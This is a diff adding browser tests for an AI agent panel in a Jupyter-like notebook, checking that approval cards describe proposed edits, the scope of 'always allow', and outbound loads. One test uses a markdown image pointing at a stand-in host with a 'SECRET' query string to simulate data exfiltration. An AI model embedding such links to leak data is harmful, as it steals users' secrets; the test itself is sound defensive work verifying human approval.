@@ -424,3 +424,82 @@ def edit(number: int) -> dict[str, object]:
     return calls(
         "update_cell", cell_id="c0", old_string=f"x = {number}", new_string=f"x = {number + 1}"
     )
+
+
+def test_type_place_and_kernel_are_said(open_page: OpenPage, replies: Replies) -> None:
+    notebook = open_page(cells=["x = 1", "y = 2"])
+    panel = Panel(notebook.page).open("ask")
+    words = calls("create_cell", source="# Words", type="markdown", before="c1")
+    raw = calls("create_cell", source="z", type="raw", after="nowhere")
+    odd = calls("create_notebook", path="new.ipynb", kernel_name="i\u200br")
+    for block, facts in (
+        (words, "Markdown cell, above cell 2"),
+        (calls("create_cell", source="z = 3"), "Code cell, at the end of the notebook"),
+        (raw, "Raw cell, below cell “nowhere”"),
+        (calls("update_cell", cell_id="c0", type="markdown"), "Markdown cell"),
+        (calls("move_cell", cell_id="c0"), "To a place at the end of the notebook"),
+        (odd, "With the kernel “i⟨U+200B⟩r”"),
+        (calls("create_notebook", path="new.ipynb"), "With the default kernel"),
+    ):
+        replies.append([block])
+        replies.append([says("As you like.")])
+        panel.ask("Change it.")
+        card = panel.region.locator(".jp-Agent-approval")
+        expect(card.locator(".jp-Agent-facts")).to_have_text(facts)
+        panel.button("Deny").click()
+        expect(card).to_be_hidden()
+        expect(panel.button("Send")).to_be_visible()
+    assert notebook.sources() == {"c0": "x = 1", "c1": "y = 2"}
+
+
+def test_always_says_what_it_allows_and_for_how_long(open_page: OpenPage, replies: Replies) -> None:
+    notebook = open_page(cells=["x = 1", "x = !echo 2"])
+    panel = Panel(notebook.page).open("ask")
+    for cell in ("c0", "c0", "c1"):
+        replies.append([calls("run_cell", cell_id=cell)])
+    replies.append([says("Ran it.")])
+    panel.ask("Run it.")
+    question(panel, "Run cell 1?")
+    always = panel.button("Always allow here")
+    expect(always).to_have_accessible_description(
+        f"Always: run any cell in {notebook.path}, whatever its code, in this conversation, until "
+        "its kernel restarts. Code with ! or % needs an answer each time."
+    )
+    always.click()
+    question(panel, "Run cell 2?")  # the first ran again without a question
+    assert notebook.prompt("c0") == "[2]:"
+    panel.button("Deny").click()
+    expect(panel.log).to_contain_text("Ran it.")
+    replies.append([calls("create_cell", source="y = 1")])
+    replies.append([says("As you like.")])
+    panel.ask("Add one.")
+    expect(panel.button("Always allow here")).to_have_accessible_description(
+        f"Always: add any cell in {notebook.path}, in this conversation."
+    )
+    panel.button("Deny").click()
+
+
+def test_an_edit_that_loads_from_elsewhere_is_asked_about_with_its_address(
+    open_page: OpenPage, replies: Replies
+) -> None:
+    notebook = open_page(cells=["x = 1"])
+    page = notebook.page
+    left: list[str] = []
+    page.context.on("request", lambda request: left.append(request.url))
+    panel = Panel(page).open("edit")
+    address = "http://stranger.invalid/p?d=SECRET-" + "0123456789" * 20
+    replies.append([calls("create_cell", type="markdown", source=f"![ ]({address})")])
+    replies.append([says("Asked.")])
+    panel.ask("Illustrate it.")
+    question(panel, "Add a cell?")
+    card = panel.region.locator(".jp-Agent-approval")
+    note = card.get_by_role("note")
+    expect(note).to_contain_text("contacts another server")
+    expect(note).to_contain_text(address)
+    assert note.evaluate("note => note.scrollWidth <= note.clientWidth")
+    for name in FREER:
+        expect(panel.button(name)).to_have_count(0)
+    assert not [url for url in left if "stranger.invalid" in url]
+    panel.button("Allow").click()
+    expect(panel.log).to_contain_text("Asked.")
+    eventually(lambda: [url for url in left if "stranger.invalid" in url], bool)
